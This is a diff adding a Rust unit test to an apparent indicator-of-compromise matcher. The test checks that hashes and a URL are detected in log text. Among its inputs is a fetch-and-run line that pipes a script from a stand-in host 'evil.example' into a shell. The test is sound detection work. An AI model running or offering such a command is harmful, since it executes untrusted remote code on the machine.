@@ -1061,3 +1061,45 @@ fn million() {
     );
     assert!(hits > 0);
 }
+
+#[test]
+fn hashes_and_urls_are_found_in_text_without_tokenising() {
+    let mut set = IocSet::new();
+    let md5 = "44d88612fea8a8f36de82e1278abb02f";
+    let _ = set.add(md5, None, "t", None);
+    let _ = set.add("http://evil.example/x.sh", None, "t", None);
+    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
+    let _ = set.add(sha1, None, "t", None);
+    let hit = |t: &str| set.find_hash_or_url(t, true, true).is_some();
+    assert!(hit(&format!("Hashes=MD5={},SHA256=00", md5.to_uppercase())));
+    assert!(hit(&format!("file {md5}")));
+    assert!(
+        !hit(&format!("file {md5}0"),),
+        "33 hex digits are not an MD5"
+    );
+    assert!(hit("curl -s http://evil.example/x.sh | sh"));
+    assert!(hit("GET \"http://EVIL.example/x.sh\" 200"));
+    assert!(!hit("curl -s http://evil.example/y.sh"));
+    assert!(!hit("nothing here"));
+    for pad in 0..40 {
+        let line = format!("{}x {sha1} y", "z".repeat(pad));
+        assert!(hit(&line), "at offset {pad}");
+        assert!(
+            hit(&format!("{}{sha1}", ":".repeat(pad))),
+            "at the end after {pad}"
+        );
+    }
+    assert!(!hit(&format!("{sha1}a")), "41 hex digits");
+    for k in [
+        "Hashes",
+        "sha256",
+        "file.hash.md5",
+        "MD5",
+        "process.hash.sha1",
+    ] {
+        assert!(names_a_hash(k), "{k}");
+    }
+    for k in ["trace_id", "session", "ip", "", "message"] {
+        assert!(!names_a_hash(k), "{k}");
+    }
+}
